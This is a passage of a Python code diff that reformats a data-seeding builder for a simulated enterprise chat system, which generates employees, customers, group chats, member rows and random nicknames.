+                GroupMember.EMPLOYEE,
+                "",
+                created,
+                1,
+                "",
+                "",
+                owner.name,
+                "",
+            )
             colleagues = [e for e in staff if e.userid != owner.userid]
             rng.shuffle(colleagues)
             emp_members = colleagues[: rng.randrange(0, min(3, len(colleagues)) + 1)]
@@ -841,9 +1370,18 @@ class _Builder:
                 if e.userid in members:
                     continue
                 jt = created + rng.randrange(0, 3 * DAY)
-                members[e.userid] = (chat_id, e.userid, GroupMember.EMPLOYEE, "", jt, 1, owner.userid,
-                                     rng.choice(("", "", f"{short[:2]}-{e.position}", f"{e.position}{e.name[0]}")),
-                                     e.name, "")
+                members[e.userid] = (
+                    chat_id,
+                    e.userid,
+                    GroupMember.EMPLOYEE,
+                    "",
+                    jt,
+                    1,
+                    owner.userid,
+                    rng.choice(("", "", f"{short[:2]}-{e.position}", f"{e.position}{e.name[0]}")),
+                    e.name,
+                    "",
+                )
                 inside.append(e.userid)
             admins = [u for u in inside[1:] if rng.random() < 0.5][:2]
             size = int(lo + (hi - lo) * rng.random() ** 2)
@@ -865,10 +1403,26 @@ class _Builder:
                     state = f"jw_{rng.choice(('store', 'live', 'pkg'))}_{store:02d}"
                 nick = ""
                 if rng.random() < 0.15:
-                    nick = rng.choice((f"{self.ext_names[ci][:8]}-{short[:2]}", f"VIP-{rng.choice(SURNAMES)[0]}",
-                                       rng.choice(SURNAMES)[0] + "姐", rng.choice(ENGLISH)))
-                members[ext] = (chat_id, ext, GroupMember.CUSTOMER, self.ext_unionids[ci], jt, scene, invitor,
-                                nick, self.ext_names[ci], state)
+                    nick = rng.choice(
+                        (
+                            f"{self.ext_names[ci][:8]}-{short[:2]}",
+                            f"VIP-{rng.choice(SURNAMES)[0]}",
+                            rng.choice(SURNAMES)[0] + "姐",
+                            rng.choice(ENGLISH),
+                        )
+                    )
+                members[ext] = (
+                    chat_id,
+                    ext,
+                    GroupMember.CUSTOMER,
+                    self.ext_unionids[ci],
+                    jt,
+                    scene,
+                    invitor,
+                    nick,
+                    self.ext_names[ci],
+                    state,
+                )
             mrows.extend(members.values())
             version = f"{rng.getrandbits(128):032x}"
             grows.append((chat_id, name, owner.userid, created, notice, _j(admins), 0, False, version, "[]"))
@@ -935,8 +1489,19 @@ def seed(customers: int = 5000, seed: int = 1, demo: bool = True, reset: bool = 
             b.write_groups(cur)
         b.stats["seconds"] = round(time.monotonic() - t0, 2)
         SimState.objects.update_or_create(
-            key="world", defaults={"value": {"customers": customers, "seed": seed, "demo": demo, "seeded_at": b.now,
-                                             "stem": b.stem, "hostile": b.hostile_ids, "stats": b.stats}})
+            key="world",
+            defaults={
+                "value": {
+                    "customers": customers,
+                    "seed": seed,
+                    "demo": demo,
+                    "seeded_at": b.now,
+                    "stem": b.stem,
+                    "hostile": b.hostile_ids,
+                    "stats": b.stats,
+                }
+            },
+        )
     b.stats["seconds"] = round(time.monotonic() - t0, 2)
     logger.info("seeded world %s", b.stats)
     return dict(b.stats)
@@ -977,8 +1542,13 @@ def new_customer(rng: random.Random | None = None, **fields: Any) -> ExternalCon
     return ExternalContact.objects.create(**values)
 
 
-def pick_employees(n: int = 1, rng: random.Random | None = None, contact_only: bool = True,
-                   store_only: bool = False, exclude: Iterable[str] = ()) -> list[str]:
+def pick_employees(
+    n: int = 1,
+    rng: random.Random | None = None,
+    contact_only: bool = True,
+    store_only: bool = False,
+    exclude: Iterable[str] = (),
+) -> list[str]:
     """``n`` distinct active employees' userids (with the customer-contact function by default)."""
     rng = rng or random.Random(secrets.randbits(64))
     qs = User.objects.filter(status=User.STATUS_ACTIVE)
